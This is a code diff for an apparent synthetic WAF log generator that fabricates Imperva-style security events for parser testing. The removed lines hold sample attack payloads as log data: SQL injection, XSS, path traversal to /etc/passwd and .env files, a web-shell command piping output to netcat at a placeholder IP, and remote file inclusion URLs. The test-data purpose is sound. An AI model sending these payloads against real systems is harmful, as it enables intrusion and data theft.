@@ -114,62 +114,14 @@ class Visitor(NamedTuple):
     cap: str
 
 
-class AttackKind(NamedTuple):
-    """A rule type of FORMATS §2.2 with its outcomes and the (fileType, filePermission, cs9)
-    triples it reports."""
-
-    name: str
-    rule_type: int
-    weight: int
-    acts: tuple[str, ...]
-    entries: tuple[tuple[str, str, str], ...]
+def _json(obj: object) -> str:
+    """Compact JSON as Imperva writes it (no spaces after separators), unicode kept."""
+    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
 
 
-ATTACKS: tuple[AttackKind, ...] = (
-    AttackKind("SQL Injection", 0, 20,
-               ("REQ_BLOCKED_SESSION",) * 5 + ("REQ_BLOCKED", "REQ_BLOCKED", "REQ_PASSED", "REQ_BLOCKED_SECURITY"),
-               (("12999", "37", ""), ("30037", "2", "High Risk SQL Expressions"), ("50037", "1", "SQL SELECT Expression"),
-                ("50044", "1", ""), ("50033", "666", "SQL Injection"))),
-    AttackKind("Cross Site Scripting", 1, 15, ("REQ_BLOCKED_SESSION",) * 4 + ("REQ_PASSED", "REQ_BLOCKED_VISITOR"),
-               (("20001", "4", "XSS Script Tag"), ("20007", "9", "XSS Event Handler"), ("1001", "1", ""))),
-    AttackKind("Illegal Resource Access", 3, 15, ("REQ_BLOCKED_SESSION", "REQ_BLOCKED_SESSION", "REQ_CHALLENGE_CAPTCHA", "REQ_PASSED"),
-               (("30037", "2", "Block Malicious User"), ("1001", "1", "High Risk Resources"), ("30045", "5", "Path Traversal"))),
-    AttackKind("Bot Access Control", 4, 10,
-               ("REQ_CHALLENGE_CAPTCHA", "REQ_CHALLENGED_CAPTCHA", "REQ_BLOCKED_VISITOR", "REQ_BLOCKED_COOKIELESS_SESSION"),
-               (("40001", "3", "Suspected Bot"), ("40005", "8", "Bad Reputation Bot"))),
-    AttackKind("DDoS", 8, 6, ("REQ_BLOCKED_DDOS",) * 4 + ("REQ_CHALLENGE_CAPTCHA",), (("80001", "1", "DDoS Protection"),)),
-    AttackKind("Backdoor Protect", 9, 4, ("REQ_BLOCKED_SESSION", "REQ_BLOCKED_SECURITY"),
-               (("90001", "12", "Backdoor Protection"), ("90002", "13", "Web Shell Access"))),
-    AttackKind("Remote File Inclusion", 10, 5, ("REQ_BLOCKED_SESSION", "REQ_BLOCKED_SESSION", "REQ_PASSED"),
-               (("10001", "7", "Remote File Inclusion"), ("10003", "2", ""))),
-    AttackKind("IncapRules", 11, 10, ("REQ_BLOCKED_SECURITY",) * 3 + ("REQ_CHALLENGE_CAPTCHA", "REQ_PASSED"),
-               (("110001", "1", "Block admin from outside"), ("110002", "1", "Rate limit login"))),
-    AttackKind("API Specification Violation", 12, 4, ("REQ_BLOCKED_SECURITY", "REQ_PASSED"),
-               (("60001", "1", "API Specification Violation"),)),
-    AttackKind("Account Takeover Protection", 13, 4, ("REQ_BLOCKED", "REQ_CHALLENGE_CAPTCHA"),
-               (("70001", "1", "Credential Stuffing"), ("70002", "2", "Brute Force"))),
-    AttackKind("Bad Bot", 14, 5, ("REQ_BLOCKED_VISITOR", "REQ_BLOCKED_VISITOR", "REQ_CHALLENGED_CAPTCHA", "REQ_BLOCKED"),
-               (("140001", "1", "Bad Bot"), ("140002", "3", "Known Violator"))),
-    AttackKind("Blocked country", -1, 6, ("REQ_BLOCKED_ACL",) * 3 + ("REQ_BLOCKED",), ()),
-)
-INCAP_RULE_NAMES = ("Block admin from outside", "Rate limit login", "Temp_dump")
-
-# Raw payloads per rule type: (path, qstr, postbody); None keeps the ordinary value.
-PAYLOADS: dict[int, tuple[tuple[str | None, str | None, str | None], ...]] = {
-    0: ((None, "id=1' OR 1=1--", None), (None, "id=1%27%20OR%201%3D1--", None),
-        ("/login", None, "username=admin' OR 1=1--&password=x"),
-        (None, "keywords=3)))%20AND%203434%3d(SELECT%20CASE%203434%20WHEN%203434%20THEN%201%20ELSE%200%20END)", None)),
-    1: ((None, "q=<script>alert(1)</script>", None), (None, "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", None),
-        ("/comments", None, "comment=<img src=x onerror=alert(1)>")),
-    3: (("/static/../../etc/passwd", None, None), (None, "file=../../etc/passwd", None), (None, "p=%2fetc%2fpasswd", None),
-        ("/.env", None, None), ("/.git/config", None, None), ("/wp-config.php.bak", None, None)),
-    9: (("/wp-content/uploads/shell.php", "cmd=id | nc 203.0.113.66 4444", None), ("/c99.php", None, "c=system('id');")),
-    10: ((None, "page=http://203.0.113.66/shell.txt?", None), (None, "inc=https://198.51.100.77/r57.txt", None)),
-    11: (("/admin", None, None), ("/wp-login.php", None, None), ("/login", None, "user=bob&pass=hunter2")),
-    12: (("/api/v1/orders", None, '{"sku":"A-1","qty":2,"coupon":"x=1"}'),),
-    13: (("/login", None, "username=alice%40example.com&password=%2A%2A%2A%2A"),),
-}
-API_VIOLATIONS = ("INVALID_PARAM_NAME", "MISSING_PARAM", "INVALID_PARAM_VALUE", "INVALID_METHOD")
+_RULE_INFO_JSON = tuple(_json([info]) for info in D.RULE_INFOS)
+_REQ_HEADERS_JSON = tuple(_json(h) for h in D.REQ_HEADERS)
+_RES_HEADERS_JSON = tuple(_json(h) for h in D.RES_HEADERS)
 
 
 def _cumulative(weights: list[int]) -> list[int]:
@@ -192,12 +144,12 @@ class EventGenerator:
         self.account = str(rng.randint(100_000, 9_999_999))
         self.sites = self._sites()
         self._site_cum = _cumulative([5, 3, 2, 1])
-        self.visitors = [self._visitor(False) for _ in range(max(20, min(3000, total // 8)))]
-        self.attackers = [self._visitor(True) for _ in range(max(8, min(200, total // 100)))]
+        self.visitors = [self._visitor(False, i) for i in range(max(20, min(3000, total // 8)))]
+        self.attackers = [self._visitor(True, i) for i in range(max(8, min(200, total // 100)))]
         blocked_places = [p for p in D.PLACES if p.ccode in D.BLOCKED_COUNTRIES]
-        self.blocked = [self._visitor(True)._replace(place=p) for p in blocked_places]
+        self.blocked = [self._visitor(True, 999)._replace(place=p) for p in blocked_places]
         self.attackers += self.blocked
-        self._attack_cum = _cumulative([a.weight for a in ATTACKS])
+        self._attack_cum = _cumulative([a.weight for a in D.ATTACKS])
         self._access_cum = _cumulative([w for _, w in D.ACCESS_ACTS])
         self._sessions: dict[str, str] = {}
         self.timestamps = sorted(rng.randint(start_ms, end_ms) for _ in range(total))
@@ -225,15 +177,22 @@ class EventGenerator:
             return f"2001:db8:{r.randint(1, 0xFFFF):x}::{r.randint(1, 0xFFFF):x}"
         return f"{r.choice(('192.0.2', '198.51.100', '203.0.113'))}.{r.randint(1, 254)}"
 
-    def _visitor(self, attacker: bool) -> Visitor:
+    def _visitor(self, attacker: bool, index: int) -> Visitor:
+        """A client. The first visitors of each pool take every agent and place of the vocabulary
+        once, in order: visitors are picked with a bias towards low indices, so even a small
+        sample shows every user-agent and city quirk; later ones are drawn at random."""
         r = self.rng
-        if attacker:
-            agent = r.choice(D.ATTACK_TOOLS + D.BOTS[4:] + D.BROWSERS[:2])
+        agents = D.ATTACK_TOOLS + D.BOTS[4:] + D.BROWSERS[:2] if attacker else D.BROWSERS + D.BOTS
+        if index < len(agents):
+            agent = agents[index]
+        elif attacker:
+            agent = r.choice(agents)
         else:
             agent = r.choice(D.BOTS) if r.random() < 0.15 else r.choice(D.BROWSERS)
+        place = D.PLACES[index] if index < len(D.PLACES) else r.choice(D.PLACES)
         cap = "NOT_SUPPORTED" if agent.dproc != "Browser" and r.random() < 0.5 else "NA"
         vid = str(uuid.UUID(int=r.getrandbits(128), version=4))
-        return Visitor(self._ip(), r.choice(D.PLACES), agent, vid, f"{r.getrandbits(384):096x}", cap)
+        return Visitor(self._ip(), place, agent, vid, f"{r.getrandbits(384):096x}", cap)
 
     def _session(self, v: Visitor) -> str:
         """fileId: one per visit, renewed now and then (FORMATS §2.3: a session/visit id)."""
@@ -252,9 +211,9 @@ class EventGenerator:
     def _event(self, ts: int) -> Event:
         r = self.rng
         site = self.sites[bisect.bisect_right(self._site_cum, r.randrange(self._site_cum[-1]))]
-        kind: AttackKind | None = None
+        kind: D.AttackKind | None = None
         if r.random() < self.attack_ratio:
-            kind = ATTACKS[bisect.bisect_right(self._attack_cum, r.randrange(self._attack_cum[-1]))]
+            kind = D.ATTACKS[bisect.bisect_right(self._attack_cum, r.randrange(self._attack_cum[-1]))]
             pool = self.blocked if kind.rule_type == -1 else self.attackers
             v = pool[int(len(pool) * r.random() ** 2)]
         else:
@@ -283,23 +242,26 @@ class EventGenerator:
             act = kind.acts[r.randrange(len(kind.acts))]
             name, rule_type = kind.name, kind.rule_type
             if rule_type == 11:
-                name = f"IncapRules({INCAP_RULE_NAMES[r.randrange(len(INCAP_RULE_NAMES))]})"
-            payloads = PAYLOADS.get(rule_type)
+                name = f"IncapRules({D.INCAP_RULE_NAMES[r.randrange(len(D.INCAP_RULE_NAMES))]})"
+            method = "GET" if method not in ("GET", "POST", "HEAD") else method
+            payloads = D.PAYLOADS.get(rule_type)
             if payloads:
                 p_path, p_qstr, p_body = payloads[r.randrange(len(payloads))]
                 path = p_path or path
                 qstr = p_qstr or qstr
                 if p_body is not None:
                     method, postbody = "POST", p_body
+                elif method == "POST":
+                    method = "GET"
             attack_types, attack_ids, rule_names = self._rule_lists(kind)
             if rule_type == 12:
                 rule_add_info = self._api_violation(rule_names)
             elif rule_type == 11 and r.random() < 0.3:
-                rule_info = self._json([D.RULE_INFOS[r.randrange(len(D.RULE_INFOS))]])
+                rule_info = _RULE_INFO_JSON[r.randrange(len(_RULE_INFO_JSON))]
         if postbody is None and method in ("POST", "PUT") and site.logs_body:
             postbody = r.choice(('{"sku":"A-1","qty":2}', "name=Zoë&city=Zürich", "filter=price>=10&sort=asc"))
         if kind is None and site.logs_body and r.random() < 0.05:
-            rule_info = self._json([D.RULE_INFOS[r.randrange(len(D.RULE_INFOS))]])
+            rule_info = _RULE_INFO_JSON[r.randrange(len(_RULE_INFO_JSON))]
 
         status: int | None
         sip: str | None = None
@@ -328,8 +290,8 @@ class EventGenerator:
         xff = self._xff(v.ip) if r.random() < 0.85 else None
         req_headers = res_headers = None
         if site.logs_headers and r.random() < 0.7:
-            req_headers = self._json(D.REQ_HEADERS[r.randrange(len(D.REQ_HEADERS))])
-            res_headers = self._json(D.RES_HEADERS[r.randrange(len(D.RES_HEADERS))])
+            req_headers = _REQ_HEADERS_JSON[r.randrange(len(_REQ_HEADERS_JSON))]
+            res_headers = _RES_HEADERS_JSON[r.randrange(len(_RES_HEADERS_JSON))]
         return Event(
             name=name, rule_type=rule_type, security=kind is not None, start=ts,
             end=None if legacy else ts + duration, file_id=self._session(v), site=site.host, site_id=site.site_id,
@@ -353,7 +315,7 @@ class EventGenerator:
         chain += [self._ip(0.4) for _ in range(n - 1)]
         return ", ".join(chain)
 
-    def _rule_lists(self, kind: AttackKind) -> tuple[str | None, str | None, str]:
+    def _rule_lists(self, kind: D.AttackKind) -> tuple[str | None, str | None, str]:
         """fileType / filePermission / cs9, lined up by position with trailing commas; sometimes a
         single entry with an empty cs9 (the real SQL injection line, FORMATS §3.5). ACL blocks
         carry no attack ids, only ``cs9=``."""
@@ -363,8 +325,12 @@ class EventGenerator:
         if r.random() < 0.15:
             t, i, _ = kind.entries[r.randrange(len(kind.entries))]
             return t, i, ""
-        picks = [kind.entries[r.randrange(len(kind.entries))] for _ in range(r.randint(1, 4))]
-        if r.random() < 0.25:  # empty members: ",High Risk SQL Expressions,,SQL SELECT Expression,"
+        if kind.rule_type == 12:
+            others = kind.entries[:-1]
+            picks = r.sample(others, r.choice((0, 1, 2, 2, 2))) + [kind.entries[-1]]
+        else:
+            picks = r.sample(kind.entries, r.randint(1, len(kind.entries)))
+        if kind.rule_type != 12 and r.random() < 0.25:  # empty members: ",High Risk SQL Expressions,,SQL SELECT Expression,"
             picks = [(t, i, "" if j % 2 == 0 else n) for j, (t, i, n) in enumerate(picks)]
             picks.append((picks[0][0], picks[0][1], ""))
         types = ",".join(p[0] for p in picks) + ","
@@ -375,11 +341,8 @@ class EventGenerator:
     def _api_violation(self, rule_names: str) -> str:
         """cs11: JSON behind one comma per preceding cs9 entry (FORMATS §2.3, ``,,[{…}]``)."""
         r = self.rng
-        lead = "," * max(0, rule_names.count(",") - 1) if r.random() < 0.8 else ""
-        body = [{"api_specification_violation_type": API_VIOLATIONS[r.randrange(len(API_VIOLATIONS))],
+        lead = "," * max(0, rule_names.count(",") - 1) if r.random() < 0.85 else ""
+        body = [{"api_specification_violation_type": D.API_VIOLATIONS[r.randrange(len(D.API_VIOLATIONS))],
                  "parameter_name": r.choice(("somename", "qty", "coupon")), "parameter_value": "x=1"}]
-        return lead + self._json(body)
+        return lead + _json(body)
 
-    @staticmethod
-    def _json(obj: object) -> str:
-        return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
